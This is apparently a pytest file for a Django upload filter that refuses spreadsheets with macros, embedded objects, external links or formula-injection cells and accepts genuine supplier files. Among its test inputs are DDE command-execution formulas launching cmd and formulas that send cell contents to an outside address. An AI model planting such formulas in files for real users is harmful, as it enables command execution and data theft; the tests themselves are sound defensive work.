"""Tables that would act when somebody opens them are refused, and what suppliers really send is not."""

import io
import zipfile

import pytest
from django.conf import settings

from config import acting
from config.uploads import NotTaken

SHEETS = [
    *sorted((settings.BASE_DIR / "fixtures/sheets").glob("*.xlsx")),
    *sorted((settings.BASE_DIR / "catalog/tests/sheets/saved").glob("*.xls")),
]
RELATION = (
    '<Relationship Id="r1" Type="http://x/officeDocument/2006/relationships/{}" Target="{}" TargetMode="{}"/>'
)


def workbook(**parts: str) -> bytes:
    """A zipped workbook with these parts beside the usual ones; ``__`` stands for a slash."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("[Content_Types].xml", parts.pop("types", "<Types/>"))
        archive.writestr("xl/workbook.xml", "<workbook/>")
        for name, text in parts.items():
            archive.writestr(name.replace("__", "/"), text)
    return made.getvalue()


def refused(content: bytes) -> str:
    with pytest.raises(NotTaken) as no:
        acting.refuse(content)
    return str(no.value)


def test_there_are_samples():
    assert len(SHEETS) >= 7


@pytest.mark.parametrize("sheet", SHEETS, ids=lambda path: path.name)
def test_what_suppliers_send_is_taken(sheet):
    acting.refuse(sheet.read_bytes())


@pytest.mark.parametrize(
    ("parts", "why"),
    [
        ({"xl__vbaProject.bin": "x"}, acting.MACROS),
        ({"XL__VBAPROJECT.BIN": "x"}, acting.MACROS),
        ({"xl__macrosheets__sheet1.xml": "x"}, acting.MACROS),
        ({"types": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"}, acting.MACROS),
        ({"Basic__Standard__Module1.xml": "x"}, acting.MACROS),
        ({"xl__embeddings__oleObject1.bin": "x"}, acting.OBJECTS),
        ({"xl__embeddings__another.docx": "x"}, acting.OBJECTS),
        ({"xl__activeX__activeX1.xml": "x"}, acting.OBJECTS),
        ({"Object 1__content.xml": "x"}, acting.OBJECTS),
        ({"xl__externalLinks__externalLink1.xml": "<ddeLink/>"}, acting.LINKS),
        ({"xl__connections.xml": "x"}, acting.LINKS),
        ({"xl__queryTables__queryTable1.xml": "x"}, acting.LINKS),
        ({"xl___rels__a.rels": RELATION.format("attachedTemplate", "http://x/", "External")}, acting.LINKS),
        ({"xl___rels__a.rels": RELATION.format("image", "file://x/share", "External")}, acting.LINKS),
        ({"content.xml": "<table:dde-link/>"}, acting.LINKS),
        ({"content.xml": '<script:event-listener xlink:href="x"/>'}, acting.LINKS),
    ],
)
def test_workbooks_that_act_are_refused_in_a_sentence(parts, why):
    assert refused(workbook(**parts)) == why


@pytest.mark.parametrize(
    "parts",
    [
        {},
        {"xl__printerSettings__printerSettings1.bin": "x"},
        {"xl___rels__a.rels": RELATION.format("hyperlink", "https://supplier.example/", "External")},
        {"xl___rels__a.rels": RELATION.format("worksheet", "sheet1.xml", "Internal")},
    ],
)
def test_a_link_to_click_and_what_every_workbook_has_are_taken(parts):
    acting.refuse(workbook(**parts))


@pytest.mark.parametrize("name", ["_VBA_PROJECT_CUR", "\x01Ole10Native", "MBD0017AF2C"])
def test_older_workbooks_that_act_are_refused(name):
    old = next(sheet for sheet in SHEETS if sheet.suffix == ".xls").read_bytes()

    assert refused(old + name.encode("utf-16-le")) in {acting.MACROS, acting.OBJECTS}


@pytest.mark.parametrize(
    ("kind", "data", "why"),
    [
        (acting.BOUNDSHEET, b"\0\0\0\0\0\1\5\0Macro", acting.MACROS),
        (acting.SUPBOOK, b"\1\0\7\0\0\3other.xls", acting.LINKS),
    ],
)
def test_older_sheets_of_macros_and_links_are_refused(kind, data, why, monkeypatch):
    monkeypatch.setattr(acting, "_records", lambda content: iter([(kind, data)]))

    assert refused(acting.OLE) == why


@pytest.mark.parametrize(
    "text",
    [
        "name,price\n=cmd|' /C calc'!A0,1\n",
        "name;price\n\"=MSEXCEL|'\\..\\..\\cmd.exe'!_xlbgnm.A1\";1",
        "+cmd|'/C x'!A0",
        '=WEBSERVICE("http://x/"&A1)',
        'a,@IMPORTXML("http://x/")',
    ],
)
def test_texts_with_cells_that_call_out_are_refused(text):
    assert refused(text.encode()) == acting.CALLS


@pytest.mark.parametrize(
    "text", ["name,price\n-THC | CBD!,-5\n", "=A1+B2,3", "+61 2 9876 5432|x", "a,-1.5", ""]
)
def test_other_texts_are_taken(text):
    acting.refuse(text.encode())


@pytest.mark.parametrize(
    "content", [b"PK\x03\x04 damaged", acting.OLE + b"\xff" * 600, acting.OLE, b"\x00" * 10]
)
def test_what_is_damaged_is_left_to_the_reading(content):
    acting.refuse(content)
